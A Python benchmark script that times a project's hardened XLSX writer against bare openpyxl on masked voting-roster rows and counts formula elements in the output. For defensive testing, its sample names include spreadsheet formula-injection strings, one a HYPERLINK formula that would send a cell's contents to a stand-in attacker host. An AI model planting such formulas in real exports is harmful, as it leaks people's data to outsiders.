"""Benchmark of the shared spreadsheet writer (winddown.core.spreadsheets) on roster rows.

Generates ``--rows`` rows shaped like the voting roster's (序号, masked name, masked ID
number, masked mobile, Decimal weight with a money format, wrapped choice text, cast time,
receipt, changes; every tenth name hostile: ``=HYPERLINK(...)``, ``+1`` …, one with a
control character) and writes them into a write-only XLSX twice:

* through ``XlsxWorkbook`` (every text cell forced to text, cleaned and escaped);
* through bare openpyxl write-only cells, as the roster did before issue 15, item 6, on
  the same rows without the control character (which bare openpyxl refuses);

and prints, for each: seconds (best of ``--repeat``), rows/s, file size, and the number of
``<f>`` (formula) elements in the sheet's XML; then the peak resident memory. Figures only;
nothing asserts a time. The writer's cost is its own: no database, no decryption.

Usage: ``.venv/bin/python bench/bench_spreadsheets.py [--rows N] [--repeat N]``
"""

from __future__ import annotations

import argparse
import io
import random
import resource
import sys
import time
import zipfile
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from winddown.core.spreadsheets import Cell, XlsxWorkbook

HOSTILE = ('=HYPERLINK("http://evil.example/"&C2,"点击")', "+1", "-1+2", "@SUM(A1)", "#N/A")
MONEY = "#,##0.00"
TIME = "yyyy-mm-dd hh:mm:ss"


def rows(count: int, seed: int) -> list[list]:
    rng = random.Random(seed)
    start = datetime(2026, 12, 1, 9, 0)
    out = []
    for number in range(1, count + 1):
        if number % 10 == 0:
            name = HOSTILE[number // 10 % len(HOSTILE)]
            name = name[0] + "*" * (len(name) - 1)  # as the masked roster shows it
        else:
            name = "王" + "*" * rng.randrange(1, 3)
        out.append(
            [
                number,
                name,
                f"110{'*' * 12}{rng.randrange(1000):03d}",
                f"138****{rng.randrange(10000):04d}",
                Decimal(rng.randrange(0, 10**9)) / 100,
                "同意" if rng.random() < 0.7 else "不同意",
                start + timedelta(seconds=number),
                f"{rng.getrandbits(64):016x}",
                rng.randrange(0, 3),
            ]
        )
    out[0][1] = "控制\x01字符"
    return out


def shared(data: list[list]) -> bytes:
    book = XlsxWorkbook()
    sheet = book.sheet("投票名册")
    for row in data:
        sheet.append(
            [
                row[0],
                row[1],
                row[2],
                row[3],
                Cell(row[4], number_format=MONEY),
                Cell(row[5], wrap=True),
                Cell(row[6], number_format=TIME),
                row[7],
                row[8],
            ]
        )
    return book.to_bytes()


def bare(data: list[list]) -> bytes:
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Alignment

    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("投票名册")
    wrap = Alignment(wrap_text=True, vertical="top")
    for row in data:
        money = WriteOnlyCell(sheet, value=row[4])
        money.number_format = MONEY
        choice = WriteOnlyCell(sheet, value=row[5])
        choice.alignment = wrap
        cast = WriteOnlyCell(sheet, value=row[6])
        cast.number_format = TIME
        sheet.append([row[0], row[1], row[2], row[3], money, choice, cast, row[7], row[8]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def formulas(data: bytes) -> int:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").count(b"<f>")


def measure(label: str, write, data: list[list], repeat: int) -> None:
    best = float("inf")
    for _ in range(repeat):
        t0 = time.perf_counter()
        out = write(data)
        best = min(best, time.perf_counter() - t0)
    print(
        f"{label:<28} {best:7.2f} s  {len(data) / best:>9,.0f} rows/s  "
        f"{len(out) / 2**20:6.1f} MiB  formulas: {formulas(out):,}"
    )


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--rows", type=int, default=100_000)
    parser.add_argument("--repeat", type=int, default=2)
    parser.add_argument("--seed", type=int, default=20261204)
    args = parser.parse_args()
    data = rows(args.rows, args.seed)
    print(f"{args.rows:,} roster rows, best of {args.repeat}")
    measure("core.spreadsheets", shared, data, args.repeat)
    plain = [list(row) for row in data]
    plain[0][1] = "控制字符"
    measure("bare openpyxl (before)", bare, plain, args.repeat)
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"peak RSS {peak:,.0f} MiB")


if __name__ == "__main__":
    main()
